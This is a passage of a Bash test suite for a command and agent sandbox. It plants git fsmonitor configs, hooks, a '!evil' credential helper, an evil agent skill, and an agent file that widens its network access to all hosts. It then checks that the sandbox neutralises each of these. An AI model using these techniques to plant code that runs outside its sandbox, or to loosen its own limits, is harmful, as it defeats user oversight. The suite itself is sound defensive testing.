    capture git -C "$proj/loose" -c core.hooksPath=.git/hooks checkout -q -b other
    want_file "$marker"
    tap_finish "control: without gitAudit, the alias and the post-checkout hook run outside"

    # chmod 555 .git, so that a naive rename fails: the directory is its user's,
    # who may write it again for the rename; its mode is given back.
    fresh_case
    setup_repo
    marker=$case_dir/marker
    inner_script plant "git init -q sub2
printf '[core]\n\tfsmonitor = \"touch $marker; false\"\n' >>sub2/.git/config
chmod 555 sub2/.git"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    want_err "neutralised git-config $proj/sub2/.git/config (core.fsmonitor line "
    want_file "$proj/sub2/.git/config.sbx-disabled"
    want_no_file "$proj/sub2/.git/config"
    [[ $(stat -c %a "$proj/sub2/.git") == 555 ]] || fail_because "sub2/.git has mode $(stat -c %a "$proj/sub2/.git"), not 555"
    capture git -C "$proj/sub2" status
    want_no_file "$marker"
    tap_finish "a nested repository's .git left mode 555: still neutralised, and given its mode 555 back"

    fresh_case
    setup_repo
    inner_script plant "git init -q sub2
printf '[core]\n\tfsmonitor = \"touch $case_dir/marker; false\"\n' >>sub2/.git/config
chmod 555 sub2/.git"
    run_without_audit "$script"
    want_file "$proj/sub2/.git/config"
    [[ $(stat -c %a "$proj/sub2/.git") == 555 ]] || fail_because "sub2/.git has mode $(stat -c %a "$proj/sub2/.git"), not 555"
    capture git -C "$proj/sub2" status
    want_file "$case_dir/marker"
    tap_finish "control: without gitAudit, the config stays in the 555 .git and its fsmonitor runs outside"

    # sub/.git made a symlink to a git directory outside the root: git follows it,
    # the audit does not; the link itself is renamed, nothing outside is touched.
    local elsewhere before
    fresh_case
    setup_repo
    marker=$case_dir/marker
    elsewhere=$case_dir/elsewhere
    in_case git init -q "$elsewhere"
    printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$marker" >>"$elsewhere/.git/config"
    give "$case_dir"
    before=$(file_state "$elsewhere/.git/config")
    inner_script plant "mkdir sub && ln -s $elsewhere/.git sub/.git"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    want_err "neutralised git-pointer $proj/sub/.git ("
    want_no_file "$proj/sub/.git"
    [[ -L $proj/sub/.git.sbx-disabled ]] || fail_because "sub/.git.sbx-disabled is not the symlink"
    [[ $(file_state "$elsewhere/.git/config") == "$before" ]] || fail_because "the config outside the root changed"
    [[ -z $(find "$elsewhere" -name '*.sbx-disabled*') ]] || fail_because "something outside the root was renamed"
    capture git -C "$proj/sub" status --short
    want_no_file "$marker"
    tap_finish "sub/.git a symlink made to a git directory outside the root: the link is renamed, its target untouched"

    fresh_case
    setup_repo
    marker=$case_dir/marker
    elsewhere=$case_dir/elsewhere
    in_case git init -q "$elsewhere"
    printf '[core]\n\tfsmonitor = "touch %s; false"\n' "$marker" >>"$elsewhere/.git/config"
    give "$case_dir"
    inner_script plant "mkdir sub && ln -s $elsewhere/.git sub/.git"
    run_without_audit "$script"
    capture git -C "$proj/sub" status --short
    want_file "$marker"
    tap_finish "control: without gitAudit, git follows the symlinked sub/.git and runs the payload"

    # Repositories that were there before the run: a gitlinked one and one without
    # a gitlink (known from the record `sbx run` makes before the root's first run),
    # whose configs the command cannot write. Neither is touched; the user's
    # credential.helper stays.
    local linked_before loose_before
    fresh_case
    setup_nested
    in_case git init -q "$proj/loose"
    in_case git -C "$proj/sub" config credential.helper store
    in_case git -C "$proj/loose" config credential.helper store
    linked_before=$(file_state "$proj/sub/.git/config")
    loose_before=$(file_state "$proj/loose/.git/config")
    inner_script plant "git -C sub config credential.helper '!evil' 2>/dev/null && echo wrote-sub
git -C loose config credential.helper '!evil' 2>/dev/null && echo wrote-loose
echo work >notes.txt"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    want_no_out "wrote-sub"
    want_no_out "wrote-loose"
    want_no_err "neutralised"
    [[ $(file_state "$proj/sub/.git/config") == "$linked_before" ]] || fail_because "sub/.git/config changed"
    [[ $(file_state "$proj/loose/.git/config") == "$loose_before" ]] || fail_because "loose/.git/config changed"
    [[ -z $(disabled_files) ]] || fail_because "renamed: $(disabled_files)"
    tap_finish "nested repositories that were there before, each with the user's credential.helper: untouched"

    fresh_case
    setup_nested
    in_case git init -q "$proj/loose"
    in_case git -C "$proj/loose" config credential.helper store
    inner_script plant "git -C loose config credential.helper '!evil'"
    run_unrecorded "$script"
    want_status 0
    want_err "neutralised git-config $proj/loose/.git/config (credential.helper line "
    tap_finish "control: planned with no record, the same loose repository's config is written, and neutralised after the run"

    # A pre-existing gitlinked repository is protected while the command runs.
    write_case setup_nested "writing a gitlinked nested repository's .git/config" project/sub/.git/config
    write_case setup_nested "writing a hook in a gitlinked nested repository" project/sub/.git/hooks/post-checkout

    # Everyday use: a repository made and committed in inside, with nothing that runs.
    fresh_case
    setup_repo
    inner_script plant "git init -q fresh
$git_in -C fresh commit -q --allow-empty -m first
echo x >fresh/file && git -C fresh add file && $git_in -C fresh commit -q -m second
git add fresh 2>/dev/null"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    want_no_err "neutralised"
    want_no_err "<sandbox_violations>"
    [[ -z $(disabled_files) ]] || fail_because "renamed: $(disabled_files)"
    capture git -C "$proj/fresh" log --oneline
    [[ $(wc -l <<<"$out") == 2 ]] || fail_because "git log outside does not show the two commits"
    tap_finish "git init and two commits inside, nothing that runs a program: left alone, no violation"

    fresh_case
    setup_repo
    in_case git "${git_id[@]}" -C "$proj" commit -q --allow-empty -m root
    inner_script plant "$git_in worktree add -q wt 2>/dev/null"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    want_no_err "neutralised"
    want_file "$proj/.git/worktrees/wt/commondir"
    capture git -C "$proj/wt" status --short
    want_status 0
    tap_finish "git worktree add inside: its commondir names the root's own git directory and is left alone"
}

# --- the environment -----------------------------------------------------------------------

# Secrets whose names the first filter missed, and one in a URL's credentials.
secret_vars=(MYSQL_PWD=sbx-pw-1 CI_JOB_JWT=sbx-pw-2 GH_PAT=sbx-pw-3 SENTRY_DSN=sbx-pw-4 GPG_PASSPHRASE=sbx-pw-5
    "DATABASE_URL=postgres://app:sbx-pw-6@db.internal/app")

# setup_clones: the project with two clones it ignores (vendor/), made before the
# run: vendor/x runs its hooks from .githooks in its own work tree, vendor/y reads
# more configuration from ../shared.inc, a file of its work tree.
setup_clones() {
    setup_repo
    echo vendor/ >"$proj/.gitignore"
    in_case git init -q "$proj/vendor/x"
    in_case git "${git_id[@]}" -C "$proj/vendor/x" commit -q --allow-empty -m x
    in_case git -C "$proj/vendor/x" config core.hooksPath .githooks
    in_case git init -q "$proj/vendor/y"
    in_case git -C "$proj/vendor/y" config include.path ../shared.inc
    give "$proj"
}

# The payloads of git_audit_attacks, planted by one script: each makes git run
# outside touch $case_dir/m-NAME. A nested repository 300 directories deep, one in
# a directory left mode 111, one whose directory name holds a newline, a bare
# repository with an alias, a hook in vendor/x's .githooks, vendor/y's shared.inc.
audit_plants() {
    local m=$case_dir/m
    inner_script plant "mk() { git init -q \"\$1\"; printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' \"\$2\" >>\"\$1/.git/config\"; }
d=deep; for i in \$(seq 300); do d=\$d/d; done; mkdir -p \$d; mk \$d/repo $m-depth
mkdir locked; mk locked/repo $m-111; chmod 111 locked
mk \"\$(printf 'new\\nline')\" $m-newline
git init -q --bare sub/bare.git; git -C sub/bare.git config alias.st '!touch $m-bare'
mkdir vendor/x/.githooks; printf '#!/bin/sh\\ntouch %s\\n' $m-hooks >vendor/x/.githooks/post-checkout
chmod +x vendor/x/.githooks/post-checkout
printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' $m-include >vendor/y/shared.inc"
}

# git_outside: the git commands a user runs outside later, in each planted place.
git_outside() {
    local deep=deep/$(printf 'd/%.0s' $(seq 300))repo
    in_case git -C "$proj/$deep" status >/dev/null 2>&1 || true
    in_case git -C "$proj/locked/repo" status >/dev/null 2>&1 || true
    in_case git -C "$proj/new"$'\n'"line" status >/dev/null 2>&1 || true
    in_case git -C "$proj/sub/bare.git" st >/dev/null 2>&1 || true
    in_case git -C "$proj/vendor/x" checkout -q -b other >/dev/null 2>&1 || true
    in_case git -C "$proj/vendor/y" status >/dev/null 2>&1 || true
}

# The audit after the run looks at all of the root, whatever its depth, size, modes
# and names, and at what the configs of repositories that were there before name
# (issue 32). Each control runs the same payload with the plan less its gitAudit.
# Over 80 lines: one attack after another, each with its control, a few lines
# that end in tap_finish, in the order of their TAP numbers.
git_audit_attacks() {
    local name
    fresh_case
    setup_clones
    audit_plants
    run_unrecorded "$script"  # the clones unknown while it runs, as ones made since the last run
    want_status 0
    want_err "neutralised git-config $proj/deep/d/d/"
    want_err "neutralised git-config $proj/locked/repo/.git/config (core.fsmonitor line "
    want_err "neutralised git-config $proj/new\\nline/.git/config (core.fsmonitor line "
    want_err "neutralised git-config $proj/sub/bare.git/config (alias.st line "
    want_err "neutralised git-hook $proj/vendor/x/.githooks/post-checkout (made during the run in the hooks directory $proj/vendor/x/.git/config names"
    want_err "neutralised git-config $proj/vendor/y/shared.inc (a file $proj/vendor/y/.git/config includes: core.fsmonitor line "
    [[ $(stat -c %a "$proj/locked") == 111 ]] || fail_because "locked has mode $(stat -c %a "$proj/locked"), not 111"
    git_outside
    for name in depth 111 newline bare hooks include; do want_no_file "$case_dir/m-$name"; done
    in_case chmod 755 "$proj/locked"
    tap_finish "a nested repository 300 deep, in a mode-111 directory, with a newline in its name, a bare one, a hook in an ignored clone's own hooks path, a file its config includes: all neutralised, git outside runs none"

    fresh_case
    setup_clones
    audit_plants
    run_without_audit "$script"
    want_status 0
    git_outside
    for name in depth 111 newline bare hooks include; do want_file "$case_dir/m-$name"; done
    in_case chmod 755 "$proj/locked"
    tap_finish "control: without gitAudit, git outside runs each of the six payloads"

    # The same ignored clones, known before the command runs from the root's record
    # (made by `sbx run` before the root's first run, brought up to date by the
    # audit after each): while it runs, what their configs name (vendor/x's own
    # hooks path, vendor/y's include), their configs and hooks are read-only. The
    # control is the same command with a plan made with no record.
    local try_clones="for f in vendor/x/.githooks/post-checkout vendor/y/shared.inc vendor/x/.git/config vendor/y/.git/hooks/pre-commit; do
mkdir -p \"\${f%/*}\" 2>/dev/null || true; if echo x 2>/dev/null >>\"\$f\"; then echo \"wrote \$f\"; else echo \"refused \$f\"; fi; done"
    local tried="vendor/x/.githooks/post-checkout vendor/y/shared.inc vendor/x/.git/config vendor/y/.git/hooks/pre-commit"
    fresh_case
    setup_clones
    inner_script try "$try_clones"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    for name in $tried; do want_out "refused $name"; done
    capture "$sbx" plan --root "$proj" "${managed[@]}" "${confined[@]}" -- true
    python3 - "$case_dir/out" "$proj" <<'PY' || fail_because "the record does not list the two clones alone"
import json, sys
record = open(json.load(open(sys.argv[1]))["filesystem"]["gitRecord"], "rb").read()
proj = sys.argv[2].encode()
assert record == b"sbx git record 1\nT" + proj + b"/vendor/x\0T" + proj + b"/vendor/y\0", record
PY
    tap_finish "ignored clones there before the root's first run: their hooks path, include, config and hooks are read-only while it runs"

    # Clones made outside after a run: sbx run looks again at the directories
    # that changed since (vendor/ is new here), so the very next run protects them.
    fresh_case
    setup_repo
    sbx_run "${confined[@]}" -- true
    want_status 0
    setup_clones
    inner_script try "$try_clones"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    for name in $tried; do want_out "refused $name"; done
    tap_finish "ignored clones cloned outside after a root's first run: read-only in the very next run"

    fresh_case
    setup_clones
    inner_script try "$try_clones"
    run_without_audit "$script"
    want_status 0
    for name in $tried; do want_out "wrote $name"; done
    tap_finish "control: planned without a record, the command writes into the ignored clones"

    # The root itself left mode 000 by the command: the audit still looks into it.
    fresh_case
    setup_repo
    inner_script plant "git init -q sub; printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' $case_dir/m-root >>sub/.git/config; chmod 000 ."
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    want_err "neutralised git-config $proj/sub/.git/config (core.fsmonitor line "
    [[ $(stat -c %a "$proj") == 0 ]] || fail_because "the root has mode $(stat -c %a "$proj"), not 000"
    chmod 755 "$proj"
    in_case git -C "$proj/sub" status >/dev/null 2>&1 || true
    want_no_file "$case_dir/m-root"
    tap_finish "a nested repository in a root the command left mode 000: neutralised, and the mode given back"

    fresh_case
    setup_repo
    inner_script plant "git init -q sub; printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' $case_dir/m-root >>sub/.git/config; chmod 000 ."
    run_without_audit "$script"
    chmod 755 "$proj"
    in_case git -C "$proj/sub" status >/dev/null 2>&1 || true
    want_file "$case_dir/m-root"
    tap_finish "control: without gitAudit, the repository in the root left mode 000 runs its fsmonitor once the mode is back"

    # A nested repository behind 300 000 entries (no attacker needed: a large
    # node_modules is as many), in one directory, so that no order of the walk
    # reaches it first. The files are made before the run, on a tmpfs (this disk
    # takes minutes for them), and serve the control and then the audited run.
    if ((EUID == 0)); then
        fresh_case
        setup_repo
        local plant_big="git init -q big/zz/repo; printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' $case_dir/m-big >>big/zz/repo/.git/config"
        mkdir "$proj/big"
        mount -t tmpfs -o size=256m,nr_inodes=1m,mode=755 sbx-attack-big "$proj/big"
        give "$proj/big"
        in_case sh -c "cd '$proj/big' && seq -f 'f%.0f' 300000 | xargs touch"
        inner_script plant "$plant_big"
        run_without_audit "$script"
        in_case git -C "$proj/big/zz/repo" status >/dev/null 2>&1 || true
        want_file "$case_dir/m-big"
        tap_finish "control: without gitAudit, a repository planted behind 300 000 entries runs its fsmonitor"
        in_case rm -rf "$proj/big/zz" "$case_dir/m-big"
        sbx_run "${confined[@]}" -- bash "$script"
        want_status 0
        want_err "neutralised git-config $proj/big/zz/repo/.git/config (core.fsmonitor line "
        in_case git -C "$proj/big/zz/repo" status >/dev/null 2>&1 || true
        want_no_file "$case_dir/m-big"
        umount "$proj/big"
        tap_finish "a nested repository planted behind 300 000 entries: neutralised"
    else
        skip "a repository behind 300 000 entries" "needs root to mount a tmpfs for the files (this disk takes minutes)"
        skip "control: a repository behind 300 000 entries" "needs root to mount a tmpfs for the files"
    fi

    # A fork of the command that plants after the command has ended: it ends with
    # the sandbox, before the audit. Control: the same script outside any sandbox,
    # where the fork lives on and plants.
    plant_late() {
        inner_script plant "(sleep 0.5; git init -q late; printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' $case_dir/m-late >>late/.git/config) >/dev/null 2>&1 &
echo started"
    }
    fresh_case
    setup_repo
    plant_late
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    sleep 1.5
    in_case git -C "$proj/late" status >/dev/null 2>&1 || true
    want_no_file "$case_dir/m-late"
    tap_finish "a fork still planting after the command ends: it ends with the sandbox, nothing is planted"

    fresh_case
    setup_repo
    plant_late
    capture bash "$script"
    wait_until 20 test -e "$proj/late/.git/config" || fail_because "the fork planted nothing in 20 seconds"
    sleep 0.2
    in_case git -C "$proj/late" status >/dev/null 2>&1 || true
    want_file "$case_dir/m-late"
    tap_finish "control: outside any sandbox the fork plants after the command ended, and git status runs it"

    # What the audit cannot look into and the command could reach: another's
    # directory it may write and search but not list. The run says so, in the block
    # and with status 122. Root lists everything.
    if ((${#as[@]} > 0)); then
        fresh_case
        setup_repo
        inner_script plant "git init -q dropbox/repo; printf '[core]\\n\\tfsmonitor = \"touch %s; false\"\\n' $case_dir/m-drop >>dropbox/repo/.git/config"
        mkdir -m 0733 "$proj/dropbox"  # root's, after inner_script gave the case to its user
        sbx_run "${confined[@]}" -- bash "$script"
        want_status 122
        want_err "unchecked git $proj/dropbox (cannot look into it: Permission denied (it is uid 0's)); git run there may run what the command planted"
        rm -rf "$proj/dropbox"
        tap_finish "a directory of another user's that the audit cannot list but the command could write: named in the block, status 122"
    fi
}

env_attacks() {
    fresh_case
    capture env "${secret_vars[@]}" timeout 20 "$sbx" run --root "$proj" "${managed[@]}" \
        "${confined[@]}" -- env
    want_status 0
    want_out "PATH="
    want_no_out "sbx-pw-"
    tap_finish "MYSQL_PWD, CI_JOB_JWT, GH_PAT, SENTRY_DSN, GPG_PASSPHRASE and a password in DATABASE_URL stay out"

    local passes=() kv
    for kv in "${secret_vars[@]}"; do passes+=(--env "${kv%%=*}"); done
    fresh_case
    capture env "${secret_vars[@]}" timeout 20 "$sbx" run --root "$proj" "${managed[@]}" \
        "${confined[@]}" "${passes[@]}" -- env
    want_status 0
    local i
    for i in 1 2 3 4 5 6; do want_out "sbx-pw-$i"; done
    tap_finish "control: passed with --env NAME, each of them reaches the command"
}

# --- code git runs later, outside ------------------------------------------------------

# plant_case SETUP DESCRIPTION SCRIPT AFTER MARK: in a fresh repository that SETUP
# prepares (outside, before), SCRIPT inside tries to plant code git runs later;
# AFTER runs outside once the command is over; MARK (relative to the case
# directory) is the file that code makes. Both scripts get the project as $1 and
# the case directory as $2. Confined: refused, and AFTER runs nothing. The control
# plants with filesystem.disabled, and AFTER runs the code.
plant_case() {
    local setup=$1 what=$2 script=$3 after=$4 mark=$5 mode
    for mode in confined control; do
        fresh_case
        setup_repo
        local settings=("${confined[@]}")
        $setup
        [[ $mode == confined ]] || settings=(--settings "$conf/fs-disabled.json")
        sbx_run "${settings[@]}" -- sh -c "$script" sh "$proj" "$case_dir"
        if [[ $mode == confined ]]; then
            [[ $rc != 0 ]] || fail_because "the planting script succeeded inside"
        else
            want_status 0
        fi
        in_case env -u XDG_CONFIG_HOME -u GIT_CONFIG_GLOBAL sh -c "$after" sh "$proj" "$case_dir" >/dev/null 2>&1 || true
        if [[ $mode == confined ]]; then
            want_no_file "$case_dir/$mark"
            tap_finish "$what is refused, and git outside afterwards runs nothing"
        else
            want_file "$case_dir/$mark"
            tap_finish "control: $what runs when git runs outside, planted with filesystem.disabled"
        fi
    done
}

# Set-ups for plant_case; `settings` is the confined run's settings, which one may widen.
hooks_path_missing() { in_case git -C "$proj" config core.hooksPath tools/git-hooks; }
include_missing() { in_case git -C "$proj" config include.path ../conf/extra.inc; }
home_writable() {
    printf '{"sandbox": {"enabled": true, "filesystem": {"allowWrite": ["%s"]}}}' "$home" >"$case_dir/home-writable.json"
    settings=(--settings "$case_dir/home-writable.json")
}

# A script that writes an executable that leaves the mark: plant FILE MARK.
# shellcheck disable=SC2016  # the scripts' $1 and $2 are the inner shell's
plant='plant() { printf "#!/bin/sh\ntouch %s\n" "$2" >"$1" && chmod +x "$1"; }; '

# shellcheck disable=SC2016  # the scripts' $1 and $2 are the inner shell's
git_later_attacks() {
    plant_case hooks_path_missing "a pre-commit hook in core.hooksPath tools/git-hooks, with no tools/ yet" \
        "$plant"'mkdir -p "$1/tools/git-hooks" && plant "$1/tools/git-hooks/pre-commit" "$2/hook-ran"' \
        'git -C "$1" commit -q --allow-empty -m later' hook-ran
    plant_case include_missing "a core.fsmonitor in an include.path file whose folder does not exist yet" \
        "$plant"'mkdir -p "$1/conf" && plant "$1/conf/monitor" "$2/monitor-ran" &&
                 printf "[core]\n\tfsmonitor = %s\n" "$1/conf/monitor" >"$1/conf/extra.inc"' \
        'git -C "$1" status --short' monitor-ran
    plant_case home_writable "a core.fsmonitor in ~/.config/git/config, with no ~/.config, the home writable" \
        "$plant"'mkdir -p "$HOME/.config/git" && plant "$2/monitor" "$2/global-ran" &&
                 printf "[core]\n\tfsmonitor = %s\n" "$2/monitor" >"$HOME/.config/git/config"' \
        'git -C "$1" status --short' global-ran

    # A commondir: the missing one is covered by one naming its own directory, which
    # the command cannot change; git outside works while it runs; after the run it
    # is gone, through a .git the command left at mode 555.
    # The first tries once the second has ended (the file `go`).
    fresh_case
    setup_repo
    start_bg timeout 20 "$sbx" run --root "$proj" "${managed[@]}" "${confined[@]}" \
        -- sh -c 'while [ ! -e "$2" ]; do sleep 0.05; done; { echo /elsewhere >"$1/.git/commondir"; } 2>/dev/null || echo bg-refused' \
        sh "$proj" "$case_dir/go"
    local bg=$bg_pid
    wait_until 10 test -e "$proj/.git/commondir" || fail_because "no commondir placeholder appeared"
    [[ $(cat "$proj/.git/commondir" 2>/dev/null) == . ]] || fail_because "the placeholder does not name its own directory (.)"
    [[ $(in_case git -C "$proj" rev-parse --git-common-dir 2>&1) == "$proj/.git" ]] ||
        fail_because "git outside, during the run, says: $(in_case git -C "$proj" rev-parse --git-common-dir 2>&1)"
    in_case git -C "$proj" status --short >/dev/null 2>&1 || fail_because "git status outside fails during the run"
    # A second sandbox in the same root: it cannot write it either, and leaving
    # does not take the placeholder from the first.
    sbx_run "${confined[@]}" -- sh -c '{ echo /elsewhere >"$1/.git/commondir"; } 2>/dev/null || echo refused; chmod 555 "$1/.git"' sh "$proj"
    want_out refused
    [[ $(cat "$proj/.git/commondir" 2>/dev/null) == . ]] || fail_because "the placeholder went with the second sandbox"
    touch "$case_dir/go"
    wait "$bg" 2>/dev/null || true
    grep -q bg-refused "$case_dir/bg.log" || fail_because "the first sandbox wrote the commondir: $(<"$case_dir/bg.log")"
    want_no_file "$proj/.git/commondir"
    [[ $(stat -c %a "$proj/.git") == 555 ]] || fail_because ".git's mode is $(stat -c %a "$proj/.git"), not the command's 555"
    chmod 755 "$proj/.git"
    tap_finish "a commondir cannot be planted, in two sandboxes at once; git outside works meanwhile; none is left, through chmod 555 .git"

    fresh_case
    setup_repo
    in_case git init -q --bare "$case_dir/evil"
    sbx_run --settings "$conf/fs-disabled.json" -- sh -c 'echo "$2/evil" >"$1/.git/commondir"; chmod 555 "$1/.git"' sh "$proj" "$case_dir"
    want_status 0
    [[ $(in_case git -C "$proj" rev-parse --git-common-dir 2>&1) == "$case_dir/evil" ]] ||
        fail_because "git outside does not follow the planted commondir"
    chmod 755 "$proj/.git"
    tap_finish "control: with filesystem.disabled a planted commondir outlives the run and git outside follows it"
}

# --- agent files --------------------------------------------------------------------

# shellcheck disable=SC2016  # the scripts' $1 and $HOME are the inner shell's
agent_file_attacks() {
    local mode
    for mode in confined control; do
        fresh_case
        printf -- '---\nname: t\n---\n' >"$proj/AGENT.md"
        mkdir -p "$home/other-project" "$home/a/b/c/d"
        echo "KEY=sbx-env-1" >"$home/other-project/.env"
        echo "KEY=sbx-env-2" >"$home/a/b/c/d/.env.local"
        give "$case_dir"
        local agent=(--agent-file "$proj/AGENT.md")
        [[ $mode == confined ]] || agent=("${confined[@]}")
        sbx_run "${agent[@]}" -- sh -c 'cat "$HOME/other-project/.env" "$HOME/a/b/c/d/.env.local";
            mkdir -p "$1/.agents/skills/evil" && echo "run me" >"$1/.agents/skills/evil/SKILL.md" && echo planted' sh "$proj"
        if [[ $mode == confined ]]; then
            want_no_out sbx-env-
            want_no_out planted
            want_no_file "$proj/.agents"
            tap_finish "under an agent file, .env files under the home directory are unreadable and .agents/skills cannot be made"
        else
            want_out sbx-env-1
            want_out sbx-env-2
            want_out planted
            want_file "$proj/.agents/skills/evil/SKILL.md"
            tap_finish "control: without the agent file the same command reads both .env files and plants a skill"
        fi
    done
    # An agent control file made during the run under a name no path rule
    # covered when the plan was made (AGENT-<name>.md): directly, by renaming a
    # file of the command's, as a folder and as a link. An agent reading the
    # folder later would load its sandbox block. Linux refuses paths, not
    # patterns: what stands at such a name once the command is over is renamed.
    for mode in confined control; do
        fresh_case
        printf -- '---\nname: t\n---\n' >"$proj/AGENT.md"
        echo kept >"$proj/AGENT-old.md"
        give "$case_dir"
        local agent=(--agent-file "$proj/AGENT.md")
        [[ $mode == confined ]] || agent=("${confined[@]}")
        sbx_run "${agent[@]}" -- sh -c 'cd "$1" && printf -- "---\nsandbox:\n  network:\n    hosts: [\"*\"]\n---\n" >AGENT-evil.md
            echo x >notes && mv notes AGENT-moved.md; mkdir AGENT-dir.md; ln -s AGENT-evil.md AGENT-link.md
            echo rewritten >AGENT-old.md; echo ran' sh "$proj"
        want_out ran
        if [[ $mode == confined ]]; then
            local name
            for name in AGENT-evil.md AGENT-moved.md AGENT-dir.md AGENT-link.md; do
                want_no_file "$proj/$name"
                [[ -e $proj/$name.sbx-disabled || -L $proj/$name.sbx-disabled ]] || fail_because "$name was not renamed"
                want_err "neutralised protected $proj/$name ("
            done
            grep -qx kept "$proj/AGENT-old.md" || fail_because "AGENT-old.md, there before the run, was changed"
            want_no_file "$proj/AGENT-old.md.sbx-disabled"
            # The next run in the same project goes on as before.
            sbx_run "${agent[@]}" -- sh -c 'echo again'
            want_status 0
            want_out again
            want_no_err neutralised
            tap_finish "under an agent file, an AGENT-<name>.md made during the run (file, rename, folder, link) is renamed after it and reported; one there before stays read-only"
        else
            want_file "$proj/AGENT-evil.md"
            want_file "$proj/AGENT-moved.md"
            want_no_file "$proj/AGENT-evil.md.sbx-disabled"
            tap_finish "control: without the agent file the same command leaves AGENT-evil.md and the others in the folder"
        fi
    done
    # strict writes only files.write: not the root the command runs in either.
    for mode in strict development; do
        fresh_case
        mkdir -p "$proj/out"
        printf -- '---\nname: t\nsandbox:\n  preset: %s\n  files:\n    write: [out]\n---\n' "$mode" >"$proj/AGENT.md"
        give "$case_dir"
        sbx_run --agent-file "$proj/AGENT.md" -- sh -c 'echo x >"$1/planted.sh" && echo root-written;
            echo y >"$1/out/built" && echo out-written' sh "$proj"
        want_out out-written
        if [[ $mode == strict ]]; then
            want_no_out root-written
            want_no_file "$proj/planted.sh"
            want_err "to allow it: files.write in the agent file"
            tap_finish "under a strict agent file that writes out/, the root is read-only: only files.write is written"
        else
            want_out root-written
            want_file "$proj/planted.sh"
            tap_finish "control: under development the agent's folder, the root here, is written too"
        fi
    done
    # The shell skill's blocked_commands: refused before anything runs, however written.
    for mode in blocked control; do
        fresh_case
        if [[ $mode == blocked ]]; then
            printf -- '---\nname: t\nskills:\n  - shell: {blocked_commands: [touch]}\n---\n' >"$proj/AGENT.md"
        else
            printf -- '---\nname: t\nskills:\n  - shell\n---\n' >"$proj/AGENT.md"
        fi
        give "$case_dir"
        local how made=0
        for how in "touch $proj/made-1" "env -i /usr/bin/touch $proj/made-2" "sh -c 'true && touch $proj/made-3'"; do
            sbx_run --agent-file "$proj/AGENT.md" -- sh -c "exec $how"
            [[ $rc == 125 ]] || made=$((made + 1))
        done
        sbx_run --agent-file "$proj/AGENT.md" -- touch "$proj/made-4"
        if [[ $mode == blocked ]]; then
            want_status 125
            want_err "is refused: the agent file's shell skill blocks touch, confined or not"
            want_err "skills[0].shell.blocked_commands[0]]"
            ((made == 0)) || fail_because "$made of the three spellings ran"
            want_no_file "$proj/made-1"
            want_no_file "$proj/made-3"
            want_no_file "$proj/made-4"
            tap_finish "a program the shell skill blocks is refused (125), as written, behind env -i and a path, and in sh -c"
        else
            want_status 0
            want_file "$proj/made-4"
            tap_finish "control: with the shell skill blocking nothing the same commands run"
        fi
    done
    # A SKILL.md script runs strict when its agent file declares no sandbox or turns it off: reads scoped.
    for mode in none off control; do
        fresh_case
        echo "sbx-skill-notes" >"$home/notes.txt"
        if [[ $mode == off ]]; then
            printf -- '---\nname: t\nsandbox: off\n---\n' >"$proj/AGENT.md"
        else
            printf -- '---\nname: t\n---\n' >"$proj/AGENT.md"
        fi
        give "$case_dir"
        local skill=(--skill-script)
        [[ $mode != control ]] || skill=()
        sbx_run --agent-file "$proj/AGENT.md" "${skill[@]}" -- sh -c 'cat "$HOME/notes.txt"; echo ran'
        want_out ran
        if [[ $mode == control ]]; then
            want_out sbx-skill-notes
            tap_finish "control: a command under an agent file with no sandbox block (development) reads the home directory"
        else
            want_no_out sbx-skill-notes
            tap_finish "a skill script whose agent file has $([[ $mode == off ]] && echo 'sandbox: off' || echo 'no sandbox block') runs strict: the home directory is unreadable"
        fi
    done
}

# --- protected names that are symbolic links --------------------------------------------

# .mcp.json and .bashrc at the root as symbolic links, as when many repositories
# link to one shared file: .mcp.json to a file outside the root (an absolute
# link), .bashrc to one inside it (a relative link).
setup_shared_links() {
    mkdir "$case_dir/shared" "$proj/dotfiles"
    echo '{"mcpServers": {}}' >"$case_dir/shared/mcp.json"
    echo '# shared bashrc' >"$proj/dotfiles/bashrc"
    ln -s "$case_dir/shared/mcp.json" "$proj/.mcp.json"
    ln -s dotfiles/bashrc "$proj/.bashrc"
    give "$case_dir"
}

# links_as_set_up: both names are still the links setup_shared_links made, to
# targets that did not change, and nothing was left beside them.
links_as_set_up() {
    [[ -L $proj/.mcp.json && $(readlink "$proj/.mcp.json") == "$case_dir/shared/mcp.json" ]] ||
        fail_because ".mcp.json is no longer the link to the shared file"
    [[ -L $proj/.bashrc && $(readlink "$proj/.bashrc") == dotfiles/bashrc ]] ||
        fail_because ".bashrc is no longer the link to dotfiles/bashrc"
    [[ $(<"$case_dir/shared/mcp.json") == '{"mcpServers": {}}' ]] || fail_because "the shared mcp.json changed"
    [[ $(<"$proj/dotfiles/bashrc") == '# shared bashrc' ]] || fail_because "dotfiles/bashrc changed"
    ! compgen -G "$proj/.*.sbx-attack-new" >/dev/null || fail_because "a file of the attack was left in the root"
}

# The warning sbx-linux gives where bubblewrap makes the mounts (bwrap.hpp, bubblewrap_unmade).
link_unmade_warning="this protected symbolic link can be removed, renamed or replaced by the command"

# link_plan COMMAND...: the case's plan for COMMAND, in $case_dir/plan.json.
link_plan() {
    capture "$sbx" plan --root "$proj" "${managed[@]}" "${confined[@]}" -- "$@"
    cp "$case_dir/out" "$case_dir/plan.json"
    [[ $rc == 0 ]] || fail_because "sbx plan failed with status $rc"
}

# link_confined DESCRIPTION: the checks of a confined run, or, where bubblewrap
# made the mounts (the kernel lacks the new mount API), a skip that says so once
# the warning is checked.
link_confined() {
    if grep -qF -- "$link_unmade_warning" <<<"$err"; then
        skip "$1" "bubblewrap makes the mounts here (no new mount API), so the name is not protected; sbx-linux warned"
        return
    fi
    links_as_set_up
    tap_finish "$1"
}

